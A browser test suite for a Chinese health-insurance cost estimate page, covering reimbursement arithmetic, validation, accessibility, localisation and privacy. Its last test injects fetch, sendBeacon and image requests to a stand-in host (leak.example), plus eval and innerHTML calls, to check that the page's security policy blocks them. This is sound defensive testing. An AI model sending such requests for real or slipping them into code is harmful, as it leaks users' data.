// The Estimate page as people use it, in three engines, with the headers that the product ships.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { ESTIMATE, choose, field, pays, radio, ready, says, you } from './page.mjs';
import { accessible, eachEngine, fits, nothingLeft, shot, witnessed } from './spec.mjs';
import { reads } from './views.mjs';

// The page opens on a Beijing pensioner's first stay in a tertiary hospital: total 30000, self-funded 2000, paid first 1000.
// In scope 27000, deductible 1300, 91 % of 25700 = 23387.00 by the fund; 6613.00 remain (decree 158, article 36).
const EXAMPLE = '6,613.00';

eachEngine('Estimate', { timeout: 300_000 }, (t) => {
  const home = () => t.s.url + ESTIMATE.zh;
  const fresh = async (lang = /** @type {'zh' | 'en'} */ ('zh')) => { await t.b.goto(t.s.url + ESTIMATE[lang]); await ready(t.b); };

  // A page that does not start fails every test at once, not each after its own waiting.
  before(() => fresh(), { timeout: 45_000 });

  test('starts, the worker answers, nothing is violated', async () => {
    await fresh();
    assert.equal(await you(t.b), EXAMPLE);
    assert.equal(await t.b.eval('document.documentElement.lang'), 'zh-CN');
    assert.equal(await t.b.eval('document.querySelectorAll("h1").length'), 1);
    assert.deepEqual(await witnessed(t.b), { csp: [], errors: [] });
    assert.ok(t.s.log.some((e) => e.dest === 'worker'), 'the engine runs in a worker');
  });

  test('the example made at build time says what the page says itself', async () => {
    const words = () => t.b.eval(() => {
      const sheet = /** @type {HTMLElement} */ (document.getElementById('sheet'));
      sheet.querySelectorAll('details').forEach((d) => { d.open = true; });
      return [...sheet.innerText.split('\n').map((l) => l.trim()).filter(Boolean), ...[...sheet.querySelectorAll('rect, a')].map((e) => [...e.attributes].map((a) => `${a.name}=${a.value}`).sort().join(' '))];
    });
    for (const lang of /** @type {const} */ (['zh', 'en'])) {
      // A fresh browser: what it has cached for ever it would not ask for again.
      t.s.options.missing = [/engine.*\.wasm/];
      await t.reopen();
      await t.b.goto(t.s.url + ESTIMATE[lang]);
      await t.b.until('document.documentElement.dataset.engine === "offline"', { what: 'the page without engine' });
      const built = await words();
      t.s.options.missing = [];
      await fresh(lang);
      const own = await words();
      assert.ok(built.length > 40, `${built.length} lines`);
      assert.deepEqual(own, built, lang);
    }
  });

  test('typing an amount changes the result at once', async () => {
    await fresh();
    // 37000 in scope: 91 % of 28700 and 94 % of 7000 = 26117 + 6580 = 32697.00 by the fund.
    await t.b.type(field('bill.total'), '40000');
    await pays(t.b, '7,303.00');
    await t.b.type(field('bill.total'), '3万');
    await pays(t.b, EXAMPLE);
    await t.b.type(field('bill.total'), '４０,０００．００');
    await pays(t.b, '7,303.00');
    // 39500.50 − 2000 − 1000 = 36500.50: 26117 + 94 % of 6500.50 = 6110.47 → 32227.47; 7273.03 remain.
    await t.b.type(field('bill.total'), '39,500.5');
    await pays(t.b, '7,273.03');
    assert.deepEqual((await witnessed(t.b)).errors, []);
  });

  test('a choice changes the result: hospital, status, scheme', async () => {
    await fresh();
    // Secondary: own share 13 % × 0.6 = 7.8 %; 92.2 % of 25700 = 23695.40.
    await choose(t.b, 'visit.level', 'secondary');
    await pays(t.b, '6,304.60');
    // In work: 87 % of 25700 = 22359.00.
    await choose(t.b, 'person.status', 'active');
    await pays(t.b, '7,641.00');
    await choose(t.b, 'person.scheme', 'resident');
    await t.b.until((/** @type {string} */ s) => { const e = document.querySelector(s); return e && !e.closest('[hidden]'); }, { what: 'the statuses of residents', args: [radio('person.status', 'student_child')] });
    assert.equal(await t.b.eval((/** @type {string} */ s) => !document.querySelector(s)?.closest('[hidden]'), radio('person.status', 'retired')), false, 'no pensioners among residents');
  });

  test("a region's own answers stand among the usual ones, decide, and go with the region", async () => {
    // Shenzhen, a resident of 40, outpatient at a tertiary hospital: 55 % of 1000 = 550.00 by the fund, nothing where it was neither chosen nor referred to.
    const outpatient = (/** @type {string} */ region) => `${home()}#c=1.r-${region}~d-2026-05-01~s-resident~p-adult~person.age-40~k-outpatient~l-tertiary~w-local~b-total~t-1000.00`;
    await t.b.goto(outpatient('440300'));
    await ready(t.b);
    await pays(t.b, '450.00');
    const own = radio('visit.institution', 'unchosen');
    assert.match(await t.b.eval((/** @type {string} */ s) => document.querySelector(s)?.closest('label')?.textContent, own), /未选定/);
    await t.b.click('#more-toggle');
    await choose(t.b, 'visit.institution', 'unchosen');
    await pays(t.b, '1,000.00');
    await t.b.goto(outpatient('110000'));
    await ready(t.b);
    await t.b.until((/** @type {string} */ s) => !document.querySelector(s), { what: 'only the answers of Beijing', args: [own] });
  });

  test('errors stand at the field and say what to do; the last result stays and says so', async () => {
    await fresh();
    for (const [text, wanted] of /** @type {[string, RegExp][]} */ ([['abc', /12345/], ['-5', /负/], ['1.234', /两位/], ['99999999999', /999,999,999/]])) {
      await t.b.type(field('bill.total'), text);
      await says(t.b, 'bill.total', wanted);
      // (While 1.234 is typed, 1.23 has been a whole amount already.)
      if (text === 'abc') assert.equal(await you(t.b), EXAMPLE, 'the last result stays');
    }
    // Beside the result it is said which field is meant; the error stands right below what was typed.
    await reads(t.b, '#problem', /^总费用：.*999,999,999/);
    assert.equal(await t.b.eval(() => document.getElementById('f-bill.self_funded')?.querySelector('.money')?.nextElementSibling?.className), 'error');
    await t.b.type(field('bill.total'), '30000');
    await t.b.until((/** @type {string} */ p) => /** @type {HTMLElement} */ (document.getElementById(`e-${p}`)).hidden, { what: 'the error to go', args: ['bill.total'] });
    assert.equal(await t.b.eval((/** @type {string} */ s) => document.querySelector(s)?.getAttribute('aria-invalid') ?? 'false', field('bill.total')), 'false');
    // What the engine finds stands at the field, too: more self-funded than the bill has.
    await t.b.type(field('bill.self_funded'), '50000');
    await says(t.b, 'bill.self_funded', /30,?000/);
    await t.b.type(field('bill.self_funded'), '2000');
    await pays(t.b, EXAMPLE);
  });

  test('every payment says what it is of, and every product that is shown is true', async () => {
    await t.b.goto('about:blank');
    // Beijing, in work, 800000: 60 % of 19596.00 are 11757.60, out of two buckets, by the critical illness insurance, whose rules are a draft.
    await t.b.goto(home() + '#c=1.r-110000~d-2026-05-01~s-employee~p-active~k-inpatient~l-tertiary~w-local~b-split~t-800000.00~x-20000.00~o-0.00~i-10000.00~accept-draft');
    await ready(t.b);
    await reads(t.b, '.case-line', '800,000.00');
    const steps = (/** @type {string} */ key) => t.b.eval((/** @type {string} */ k) => [...document.querySelectorAll(`details.line[data-key="${k}"] .step`)].map((e) => ['.step-title', '.formula'].map((c) => e.querySelector(c)?.textContent).join(' ')), key);
    const paid = await steps('hifob_pay');
    assert.ok(paid.includes('大病保险：按比例支付 19,596.00 × 60% = 11,757.60'), paid.join('; '));
    const cash = await steps('psn_cash_pay');
    assert.deepEqual(cash.slice(0, 2), ['现金支付：全自费 20,000.00', '现金支付：先行自付 10,000.00']);
  });

  test('by keyboard alone: skip link, form, a line of the receipt and its steps', async () => {
    await fresh();
    await t.b.press('Tab');
    assert.equal(await t.b.eval('document.activeElement.className'), 'skip');
    const seen = await t.b.eval(() => { const r = /** @type {Element} */ (document.activeElement).getBoundingClientRect(); return r.width > 0 && r.left >= 0 && r.top >= 0; });
    assert.ok(seen, 'the skip link shows when it has the focus');
    await t.b.press('Enter');
    await t.b.until('!!document.activeElement.closest("#main")', { what: 'focus in the main part' });
    // Arrow keys move within a group of radio buttons.
    await t.b.eval((/** @type {string} */ s) => /** @type {HTMLElement} */ (document.querySelector(s)).focus(), radio('visit.level', 'tertiary'));
    await t.b.press('ArrowLeft');
    await pays(t.b, '6,304.60');
    await t.b.press('ArrowRight');
    await pays(t.b, EXAMPLE);
    // The fund's line opens by Enter and shows its step: amount × share, condition, document.
    const line = 'details.line[data-key="hifp_pay"]';
    await t.b.eval((/** @type {string} */ s) => /** @type {HTMLElement} */ (document.querySelector(`${s} summary`)).focus(), line);
    await t.b.press('Enter');
    await t.b.until((/** @type {string} */ s) => /** @type {HTMLDetailsElement} */ (document.querySelector(s)).open, { what: 'the line to open', args: [line] });
    const text = await t.b.eval((/** @type {string} */ s) => /** @type {HTMLElement} */ (document.querySelector(`${s} .opened`)).innerText, line);
    for (const part of ['25,700.00', '91%', '23,387.00', '158']) assert.ok(text.includes(part), `${part} in: ${text}`);
    // It stays open while the figures change.
    await choose(t.b, 'visit.level', 'secondary');
    await pays(t.b, '6,304.60');
    assert.equal(await t.b.eval((/** @type {string} */ s) => /** @type {HTMLDetailsElement} */ (document.querySelector(s)).open, line), true);
  });

  test('everything that takes the focus shows it and can be reached by Tab', async () => {
    await fresh();
    const stops = await t.b.eval(() => [...document.querySelectorAll('a[href], button, input, select, summary, [tabindex="0"]')].filter((e) => {
      const shut = e.closest('details:not([open])');
      return /** @type {HTMLElement} */ (e).offsetParent && !(e instanceof HTMLInputElement && e.type === 'radio' && !e.checked) && (!shut || e.parentElement === shut && e.matches('summary'));
    }).length);
    await t.b.eval('document.activeElement.blur()');
    const reached = new Set();
    for (let i = 0; i < stops + 10; i++) {
      await t.b.press('Tab');
      const at = await t.b.eval(() => {
        const e = /** @type {HTMLElement} */ (document.activeElement);
        if (!e || e === document.body) return null;
        const label = /** @type {any} */ (globalThis).__n ??= new Map();
        if (!label.has(e)) label.set(e, label.size);
        // The sign of focus may stand on the element, the text beside a radio button, or the box around an input.
        const near = [e, e.nextElementSibling, e.parentElement, e.parentElement?.parentElement].filter((x) => x instanceof HTMLElement);
        const ring = near.some((x) => { const c = getComputedStyle(/** @type {Element} */ (x)); return (c.outlineStyle !== 'none' && parseFloat(c.outlineWidth) >= 2) || /\d+px/.test(c.boxShadow); });
        return { n: label.get(e), ring, what: `${e.tagName}#${e.id}.${e.className}` };
      });
      if (!at) { if (reached.size) break; continue; }
      if (reached.has(at.n)) break;
      reached.add(at.n);
      assert.ok(at.ring, `no sign of focus on ${at.what}`);
    }
    assert.ok(reached.size >= stops * 0.9, `Tab reached ${reached.size} of ${stops}`);
  });

  test('a change is announced once, politely', async () => {
    await fresh();
    await t.b.eval(() => {
      const said = /** @type {any} */ (globalThis).__said = /** @type {string[]} */ ([]);
      const live = /** @type {HTMLElement} */ (document.getElementById('announce'));
      new MutationObserver(() => { if (live.textContent) said.push(live.textContent); }).observe(live, { childList: true, characterData: true, subtree: true });
    });
    await t.b.type(field('bill.total'), '40000');
    await pays(t.b, '7,303.00');
    await t.b.until('globalThis.__said.length > 0', { what: 'an announcement' });
    await new Promise((r) => setTimeout(r, 800));
    const said = await t.b.eval('globalThis.__said');
    assert.equal(said.length, 1, `one announcement for one amount typed: ${JSON.stringify(said)}`);
    assert.match(said[0], /7,303\.00/);
    assert.equal(await t.b.eval('document.getElementById("announce").getAttribute("aria-live")'), 'polite');
  });

  test('the English page is English', async () => {
    await fresh();
    await t.b.click('#other-language');
    await t.b.until('document.documentElement?.lang === "en"', { what: 'the English page' });
    await ready(t.b);
    assert.equal(await you(t.b), EXAMPLE);
    // Words of Chinese receipts stand beside the English ones. A text that is Chinese only is marked as such
    // (titles of documents, the link back) or was forgotten.
    const chinese = await t.b.eval(() => {
      const out = [];
      const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      for (let n = walk.nextNode(); n; n = walk.nextNode()) {
        const e = /** @type {Element} */ (n.parentElement);
        if (/\p{Script=Han}/u.test(n.nodeValue ?? '') && !/[A-Za-z]{2}/.test(n.nodeValue ?? '') && !e.closest('script, style, template') && !/^zh/.test(e.closest('[lang]')?.getAttribute('lang') ?? '')) out.push(`${e.tagName}.${e.className}: ${n.nodeValue?.trim()}`);
      }
      return [...new Set(out)].slice(0, 10);
    });
    assert.deepEqual(chinese, []);
    await t.b.type(field('bill.total'), 'abc');
    await says(t.b, 'bill.total', /[a-z]{3} .*12345/);
    assert.deepEqual(await witnessed(t.b), { csp: [], errors: [] });
  });

  test('nothing sticks out at 320, 375 and 1280 pixels, nor in the largest type', async () => {
    for (const lang of /** @type {const} */ (['zh', 'en'])) {
      await fresh(lang);
      await t.b.eval(() => { for (const d of document.querySelectorAll('details')) d.open = true; });
      for (const width of [320, 375, 1280]) {
        await t.b.resize(width);
        await fits(t.b, `${lang} at ${width}`);
      }
      await t.b.resize(320);
      await t.b.click('#elder');
      for (let i = 0; i < 3; i++) if (await t.b.eval('!document.getElementById("type-steps").hidden && !document.getElementById("type-larger").disabled')) await t.b.click('#type-larger');
      await fits(t.b, `${lang} at 320 in the largest type`);
      assert.equal(await t.b.eval('getComputedStyle(document.body).fontSize'), '30px');
      await t.b.click('#elder');
      await t.b.resize(390);
    }
  });

  test('targets are large enough to be hit', async () => {
    await fresh();
    const small = await t.b.eval(() => [...document.querySelectorAll('button, select, input, summary, .chip, a.tool, a.action')]
      .filter((e) => /** @type {HTMLElement} */ (e).offsetParent && !e.matches('.chip input, .check input') && !e.closest('.sr, .skip'))
      .map((e) => { const r = e.getBoundingClientRect(); return { what: `${e.tagName}#${e.id}.${e.className}`, w: r.width, h: r.height }; })
      .filter((r) => r.h < 43.5 || r.w < 43.5).map((r) => `${r.what} ${Math.round(r.w)}×${Math.round(r.h)}`));
    assert.deepEqual(small, []);
  });

  test('axe finds nothing in either language, light and dark, usual and large type', async () => {
    for (const scheme of /** @type {const} */ (['light', 'dark'])) {
      await t.b.media({ scheme });
      for (const lang of /** @type {const} */ (['zh', 'en'])) {
        await t.b.resize(390);
        await fresh(lang);
        await t.b.eval(() => { for (const d of document.querySelectorAll('#sheet details')) /** @type {HTMLDetailsElement} */ (d).open = true; });
        await accessible(t.b, `${lang} ${scheme} 390`);
        await t.b.eval(() => { for (const d of document.querySelectorAll('#sheet details')) /** @type {HTMLDetailsElement} */ (d).open = false; });
        await shot(t.b, 'estimate', lang, scheme, 390);
        if (lang === 'zh') {
          await t.b.click('#elder');
          await accessible(t.b, `${lang} ${scheme} 390 large type`);
          await shot(t.b, 'estimate-large', lang, scheme, 390);
          await t.b.click('#elder');
          // With an error showing, too.
          await t.b.type(field('bill.total'), 'abc');
          await says(t.b, 'bill.total', /12345/);
          if (scheme === 'dark') await accessible(t.b, `${lang} ${scheme} 390 with an error`);
          await shot(t.b, 'estimate-error', lang, scheme, 390);
        }
        await t.b.resize(1280);
        await fresh(lang);
        if (lang === 'zh' && scheme === 'light') await accessible(t.b, `${lang} ${scheme} 1280`);
        await shot(t.b, 'estimate', lang, scheme, 1280);
      }
    }
    await t.b.media({ scheme: 'light' });
    await t.b.resize(320);
    await fresh();
    await shot(t.b, 'estimate', 'zh', 'light', 320);
    await t.b.resize(390);
    if (t.b.can.forced) {
      await t.b.media({ forced: 'active' });
      await fresh();
      await shot(t.b, 'estimate', 'zh', 'forced', 390);
      await t.b.media({ forced: 'none' });
    }
  });

  test('with less motion asked for, nothing moves', async () => {
    await t.b.media({ motion: 'reduce' });
    await fresh();
    await t.b.type(field('bill.total'), '40000');
    await pays(t.b, '7,303.00');
    const moving = await t.b.eval(() => document.getAnimations().filter((a) => a.playState === 'running' && Number(a.effect?.getComputedTiming().duration) > 20).length);
    assert.equal(moving, 0);
    await t.b.media({ motion: 'no-preference' });
  });

  test('prints: the result, not the form', async () => {
    if (!t.b.can.pdf) return;
    await fresh();
    await t.b.pdf(new URL(`./out/shots/${t.b.name}-estimate-zh.pdf`, import.meta.url).pathname);
  });

  test('hosts that send the wrong type, do not compress or set no header: it starts all the same', async () => {
    const { options } = t.s;
    for (const [what, fault] of /** @type {[string, any][]} */ ([
      ['wrong type, uncompressed', { wasmType: 'application/octet-stream', compress: 'none' }],
      ['wrong type, compressed', { wasmType: 'text/plain' }],
      ['uncompressed, opaque copy missing', { compress: 'none', missing: [/\.gzip$/] }],
      ['gzip on the fly', { compress: 'gzip' }],
      ['no headers', { headers: 'none' }],
    ])) {
      const was = { ...options };
      Object.assign(options, fault);
      await t.b.goto(`${home()}?${encodeURIComponent(what)}`);
      await ready(t.b).catch((e) => assert.fail(`${what}: ${e.message}`));
      assert.equal(await you(t.b), EXAMPLE, what);
      assert.deepEqual(await witnessed(t.b), { csp: [], errors: [] }, what);
      for (const k of Object.keys(fault)) delete options[/** @type {keyof typeof options} */ (k)];
      Object.assign(options, was);
    }
  });

  test('under any path, from another folder of the host', async () => {
    const { serve } = await import('./server.mjs');
    const { DIST } = await import('./spec.mjs');
    const s = await serve({ dist: DIST, prefix: '/a/b/', witness: true });
    try {
      for (const lang of /** @type {const} */ (['zh', 'en'])) {
        await t.b.goto(s.url + ESTIMATE[lang]);
        await ready(t.b);
        assert.equal(await you(t.b), EXAMPLE);
      }
      assert.deepEqual(s.log.filter((e) => e.status === 404).map((e) => e.path), []);
    } finally { await s.stop(); }
  });

  test('nothing leaves: no request after the start, no foreign host, no cookie, nothing stored unasked', async () => {
    await fresh();
    await new Promise((r) => setTimeout(r, 300));
    const before = t.s.log.length, asked = t.b.requests()?.length;
    await t.b.type(field('bill.total'), '41234.56');
    await choose(t.b, 'visit.level', 'secondary');
    await t.b.type(field('bill.self_funded'), '123.45');
    await t.b.until('document.getElementById("you").textContent.length > 0');
    await new Promise((r) => setTimeout(r, 800));
    const after = t.s.log.slice(before).map((e) => e.path).filter((p) => !/^(sw\.js|favicon\.ico)/.test(p));
    assert.deepEqual(after, [], 'the server was asked while somebody typed');
    if (asked !== undefined) assert.deepEqual(t.b.requests()?.slice(asked).filter((u) => !/\/sw\.js/.test(u)), []);
    assert.equal(await t.b.eval('document.cookie'), '');
    const kept = await t.b.eval('JSON.stringify(Object.entries(localStorage)) + JSON.stringify(Object.entries(sessionStorage))');
    assert.doesNotMatch(kept, /41234|123\.45/);
    assert.equal(new URL(await t.b.url()).search, '', 'nothing typed is in the query');
    nothingLeft(t);
  });

  for (const headers of /** @type {const} */ (['shipped', 'none'])) test(`a leak would be stopped by the page itself, and be seen; headers: ${headers}`, async () => {
    t.s.options.headers = headers;
    await fresh();
    await t.b.eval(`(async () => {
      await fetch('http://leak.example/fetch', { mode: 'no-cors' }).catch(() => {});
      navigator.sendBeacon('http://leak.example/beacon', 'x');
      new Image().src = 'http://leak.example/image';
      await new Promise((r) => setTimeout(() => { try { (0, eval)('1'); __witness.errors.push('eval ran'); } catch { } r(); }));
      try { document.createElement('div').innerHTML = '<b>x</b>'; __witness.errors.push('innerHTML ran'); } catch { }
      await new Promise((r) => setTimeout(r, 700));
    })()`);
    const { csp, errors } = await witnessed(t.b);
    assert.deepEqual(errors, []);
    for (const kind of ['connect-src', 'img-src']) assert.ok(csp.some((/** @type {string} */ v) => v.startsWith(kind)), `${kind} in ${csp}`);
    assert.deepEqual(t.trap.caught(), []);
  });
});
